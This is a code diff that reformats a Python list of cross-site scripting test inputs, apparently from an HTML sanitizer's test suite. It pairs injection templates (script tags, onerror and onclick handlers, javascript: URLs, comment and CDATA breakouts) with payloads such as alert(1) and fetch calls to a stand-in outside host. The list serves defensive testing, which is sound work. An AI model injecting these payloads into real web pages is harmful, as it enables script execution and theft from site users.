@@ -4,7 +4,13 @@ from __future__ import annotations
 
 ATTACKS = [
     template.format(code)
-    for code in ("window.harmed=1", "window.harmed&#61;1", "fetch('https://outside.invalid')", "document.title='harmed'", "alert(1)")
+    for code in (
+        "window.harmed=1",
+        "window.harmed&#61;1",
+        "fetch('https://outside.invalid')",
+        "document.title='harmed'",
+        "alert(1)",
+    )
     for template in (
         *(
             "<script>{}</script>",
@@ -32,7 +38,12 @@ ATTACKS = [
             "<style>@import 'https://outside.invalid';</style>{}",
             "<base href='https://outside.invalid/'>{}",
         ),
-        *("<marquee onstart={}>a</marquee>", "${{{0}}}`{0}`", "<template><script>{}</script></template>", "<object data='javascript:{}'></object>"),
+        *(
+            "<marquee onstart={}>a</marquee>",
+            "${{{0}}}`{0}`",
+            "<template><script>{}</script></template>",
+            "<object data='javascript:{}'></object>",
+        ),
         *(
             "<form action='javascript:{}'><button autofocus>a",
             "<link rel=stylesheet href='https://outside.invalid/{}'>",
@@ -56,6 +67,11 @@ ATTACKS = [
             "<a name=x onclick={}>x</a>",
             "--><script>{}</script>",
         ),
-        *("]]><script>{}</script>", "<noscript><p title='</noscript><script>{}</script>'>", "<audio src=x onerror={}>", "\u2028<script>{}</script>"),
+        *(
+            "]]><script>{}</script>",
+            "<noscript><p title='</noscript><script>{}</script>'>",
+            "<audio src=x onerror={}>",
+            "\u2028<script>{}</script>",
+        ),
     )
 ]
